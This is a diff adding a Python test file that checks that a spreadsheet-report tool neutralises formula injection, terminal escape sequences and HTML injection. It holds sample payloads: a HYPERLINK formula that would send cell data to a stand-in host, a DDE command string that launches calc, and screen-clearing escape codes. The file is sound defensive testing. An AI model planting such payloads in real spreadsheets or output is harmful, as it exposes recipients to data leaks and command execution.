@@ -1,0 +1,213 @@
+"""Outputs never turn a data file into an attack on whoever opens them.
+
+* A planted formula in an imported spreadsheet comes out inert in the xlsx and csv reports of
+  ``sinkron check`` and in a bundle written back as xlsx (end to end through the command line).
+* Control characters from the data cannot drive the terminal a report or ``sinkron read`` prints to.
+* The HTML report escapes any text (property-tested: the page's markup is the same whatever the data).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+pytest.importorskip("sinkron_spreadsheet", reason="sinkron-spreadsheet is not installed in this environment")
+
+from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]
+from reliability import corpus as c
+
+import sinkron
+from sinkron.align import Finding, Message, Report, Severity
+from sinkron.align.metrics import CoverageRow, Metrics
+from sinkron.builtins.report_csv import COLUMNS, neutralise, render_csv
+from sinkron.builtins.report_html import render_html
+from sinkron.builtins.report_text import render_text
+from sinkron.cli import main
+from sinkron.models import Provenance
+
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+TITLE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
+NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+PLAN_ID = "-2+3+cmd"
+
+
+def planted_workbook(path: Path) -> Path:
+    """A Renja sheet as an office would send it, with formulas planted as *text* in the title, id and a name."""
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "Renja"
+    ws.append([f"ID Dokumen : {PLAN_ID}"])
+    ws.append([f"Judul : {TITLE}"])
+    ws.append(["Periode : 2026"])
+    ws.append(c.RENJA_HEADER)
+    ws.append(["1.02.02.2.02.0001", NAME, "Jumlah Ibu Hamil", "100 Orang", "1.000.000"])
+    ws.append(["1.02.02.2.02.0002", "+62 812 3456", "Jumlah Ibu Bersalin", "90 Orang", "2.500.000"])
+    for row in ws.iter_rows():
+        for cell in row:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"  # text, as a planted file would hold it (openpyxl would make '=…' a formula)
+    wb.save(path)
+    return path
+
+
+def run(*args: str) -> tuple[int, str]:
+    result = CliRunner().invoke(main, list(args))
+    if result.exception is not None and not isinstance(result.exception, SystemExit):
+        raise result.exception
+    output = result.stdout + result.stderr
+    assert "Traceback" not in output
+    return result.exit_code, output
+
+
+def xlsx_strings(path: Path) -> list[str]:
+    book = load_workbook(path)
+    found: list[str] = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"a formula cell {cell.coordinate} in {path.name}"
+                if isinstance(cell.value, str):
+                    found.append(cell.value)
+    return found
+
+
+def test_the_planted_file_reads_with_the_text_intact(tmp_path: Path) -> None:
+    bundle = sinkron.read(planted_workbook(tmp_path / "planted.xlsx"))
+    plan = bundle.plans[0]
+    assert (plan.id, plan.title) == (PLAN_ID, TITLE)
+    assert [s.name for s in plan.sub_activities()] == [NAME, "+62 812 3456"]
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_planted_formulas_come_out_inert_in_the_reports(tmp_path: Path, fmt: str) -> None:
+    source = planted_workbook(tmp_path / "planted.xlsx")
+    target = tmp_path / f"laporan.{fmt}"
+    code, output = run("check", str(source), "--format", fmt, "--output", str(target), "--exit-zero")
+    assert code == 0, output
+    if fmt == "xlsx":
+        cells = xlsx_strings(target)
+    else:
+        text = target.read_bytes().decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        assert tuple(rows[0]) == COLUMNS
+        cells = [cell for row in rows for cell in row]
+    dangerous = [cell for cell in cells if cell.startswith(DANGEROUS)]
+    assert dangerous == []
+    # The planted text is all there, only made inert: the path starts with the title, the subject with the id.
+    assert any(cell.startswith("'" + TITLE) for cell in cells)
+    assert any(cell.startswith("'" + PLAN_ID + "#") for cell in cells)
+    assert any(NAME in cell for cell in cells)
+
+
+def test_planted_formulas_come_out_inert_in_a_written_bundle(tmp_path: Path) -> None:
+    source = planted_workbook(tmp_path / "planted.xlsx")
+    target = tmp_path / "salinan.xlsx"
+    code, output = run("convert", str(source), str(target))
+    assert code == 0, output
+    cells = xlsx_strings(target)
+    assert [cell for cell in cells if cell.startswith(DANGEROUS)] == []
+    assert "'" + NAME in cells and "'+62 812 3456" in cells
+    assert sinkron.read(target).plans == sinkron.read(source).plans  # and the reader takes the apostrophe off
+
+
+def finding(text: str, *, path: str | None = None) -> Finding:
+    return Finding(
+        rule="SKN104", severity=Severity.WARNING, subject=f"renja#{text}",
+        path=path if path is not None else f"Renja › {text}",
+        message=Message(f"Nama {text}", f"Name {text}"), fix=Message(text, text), evidence={"name": text},
+        location=Provenance(source=text, sheet=text, row=3),
+    )  # fmt: skip
+
+
+@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\"';,|<>& aZ0")), max_size=20))
+@settings(max_examples=40)
+def test_no_csv_field_of_the_report_starts_a_formula(text: str) -> None:
+    report = Report(findings=(finding(text, path=text),), rules_run=("SKN104",))
+    rows = list(csv.reader(io.StringIO(render_csv(report), newline="")))
+    assert len(rows) == 2 and len(rows[1]) == len(COLUMNS)
+    assert not any(cell.startswith(DANGEROUS) for cell in rows[1])
+    assert rows[1][3] == neutralise(text)  # written whole, one apostrophe at most in front
+
+
+def test_csv_report_delimiters_and_encoding(tmp_path: Path) -> None:
+    report = Report(findings=(finding("Pelayanan Ibu Hamil; Café"),), rules_run=("SKN104",))
+    exporter = sinkron.PluginManager(load_entry_points=False).exporter_for(report, "csv")
+    data = exporter.render(report, delimiter=";")
+    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert rows[1][5] == "Name Pelayanan Ibu Hamil; Café"
+    with pytest.raises(sinkron.SinkronError, match="unknown csv delimiter"):
+        exporter.render(report, delimiter="|")
+
+
+# -- terminals -----------------------------------------------------------------------------------------
+ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m"
+
+
+def test_the_text_report_never_prints_control_characters_from_the_data() -> None:
+    report = Report(findings=(finding(ESCAPES),), rules_run=("SKN104",), sources=(ESCAPES,))
+    for color in (False, True):
+        text = render_text(report, color=color)
+        data = text.replace("\x1b[0m", "")
+        for code in ("1", "2", "31", "33", "36", "1;31", "1;33", "1;36"):
+            data = data.replace(f"\x1b[{code}m", "")  # the report's own colours
+        assert not any(ch in data for ch in "\x1b\x07\x9b"), repr(text)
+        assert "\\x1b[2J\\x1b]0;pwned\\x07\\x9b31m" in text
+
+
+def test_sinkron_read_and_check_print_escapes_not_control_characters(tmp_path: Path) -> None:
+    rows = [["1.02.02.2.02.0001", f"Nama {ESCAPES} jahat", "Jumlah", "1 Orang", "1.000"]]
+    path = tmp_path / "ctl.csv"
+    path.write_text(c.csv_text([["Periode : 2024"], ["Judul : Renja " + ESCAPES], c.RENJA_HEADER, *rows]), "utf-8")
+    for args in (("read", str(path), "--mapping", "renja"), ("check", str(path), "--mapping", "renja", "--exit-zero")):
+        code, output = run(*args)
+        assert code == 0, output
+        assert not any(ch in output for ch in "\x1b\x07\x9b"), repr(output)
+        assert "\\x1b[2J" in output
+    xlsx = tmp_path / "r.xlsx"
+    code, output = run(
+        "check", str(path), "--mapping", "renja", "--format", "xlsx", "--output", str(xlsx), "--exit-zero"
+    )
+    assert code == 0, output
+    assert any("\\x1b[2J" in cell for cell in xlsx_strings(xlsx))
+    code, output = run("convert", str(path), str(tmp_path / "copy.xlsx"), "--mapping", "renja")
+    assert code == 2 and "holds a control character" in output
+    assert not (tmp_path / "copy.xlsx").exists()
+
+
+# -- HTML ----------------------------------------------------------------------------------------------
+class _Markup(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, tuple[str, ...]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))
+
+
+def _markup(report: Report) -> list[tuple[str, tuple[str, ...]]]:
+    parser = _Markup()
+    parser.feed(render_html(report))
+    return parser.tags
+
+
+def _report(text: str) -> Report:
+    coverage = CoverageRow(priority="PD", code=text, name=text, kind="daerah", programs=0, sub_activities=0,
+                           pagu=Decimal(0))  # fmt: skip
+    return Report(findings=(finding(text),), metrics=Metrics(priority_coverage=(coverage,)), rules_run=("SKN104",),
+                  sources=(text,))  # fmt: skip
+
+
+@given(st.text(alphabet=st.sampled_from(list("<>&\"'=/ ascriptimgonerrorhref:!-")), max_size=40))
+@settings(max_examples=40)
+def test_the_html_report_markup_does_not_depend_on_the_data(text: str) -> None:
+    """Whatever the text, the page has the same elements and attributes as with plain text."""
+    assert _markup(_report(text)) == _markup(_report("teks biasa"))
